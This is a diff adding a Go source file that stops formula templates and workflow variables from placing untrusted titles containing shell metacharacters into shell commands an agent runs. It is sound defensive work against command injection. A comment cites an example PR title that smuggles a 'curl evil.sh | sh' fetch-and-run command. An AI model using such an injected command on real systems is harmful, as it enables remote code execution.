@@ -0,0 +1,84 @@
+package cmd
+
+import (
+	"fmt"
+	"text/template"
+
+	"github.com/steveyegge/gastown/internal/config"
+	"github.com/steveyegge/gastown/internal/formula"
+)
+
+// templateFuncs are the functions formula templates may call.
+var templateFuncs = template.FuncMap{
+	formula.ShellQuoteFunc: config.ShellQuote,
+}
+
+// checkShellInterpolation refuses to render a template that puts untrusted
+// context into a shell command (see formula.LintShellText) when the value
+// contains shell metacharacters, so a PR titled "fix; curl evil.sh | sh"
+// can't become part of a command an agent runs.
+func checkShellInterpolation(tmplText string, ctx map[string]interface{}) error {
+	for _, finding := range formula.LintShellText("template", tmplText) {
+		for _, v := range contextStrings(ctx[finding.Ref]) {
+			if formula.HasShellMetachars(v) {
+				return fmt.Errorf("line %d: %s would put %q into a shell command; pipe the value through %s",
+					finding.Line, finding.Action, truncateStr(v, 60), formula.ShellQuoteFunc)
+			}
+		}
+	}
+	return nil
+}
+
+// checkSlingFeatureVar refuses to instantiate a workflow formula that
+// puts {{feature}} into a shell command when the bead title it is set to
+// contains shell metacharacters. bd substitutes the variable, so gt can't
+// quote it.
+func checkSlingFeatureVar(formulaName, title string) error {
+	if !formula.HasShellMetachars(title) {
+		return nil
+	}
+	path, err := findFormulaFile(formulaName)
+	if err != nil {
+		return nil
+	}
+	f, err := formula.ParseFile(path, formulaIncludeDirs()...)
+	if err != nil {
+		return nil
+	}
+	for _, finding := range formula.LintShell(f) {
+		if finding.Ref == "feature" {
+			return fmt.Errorf("formula %s puts {{feature}} into a shell command (%s line %d) and bead title %q contains shell metacharacters; retitle the bead or have the formula read the title with bd show",
+				formulaName, finding.Field, finding.Line, truncateStr(title, 60))
+		}
+	}
+	return nil
+}
+
+// contextStrings returns the strings in a template context value.
+func contextStrings(v interface{}) []string {
+	switch v := v.(type) {
+	case string:
+		return []string{v}
+	case []string:
+		return v
+	case map[string]interface{}:
+		var out []string
+		for _, e := range v {
+			out = append(out, contextStrings(e)...)
+		}
+		return out
+	case []map[string]interface{}:
+		var out []string
+		for _, e := range v {
+			out = append(out, contextStrings(e)...)
+		}
+		return out
+	case []interface{}:
+		var out []string
+		for _, e := range v {
+			out = append(out, contextStrings(e)...)
+		}
+		return out
+	}
+	return nil
+}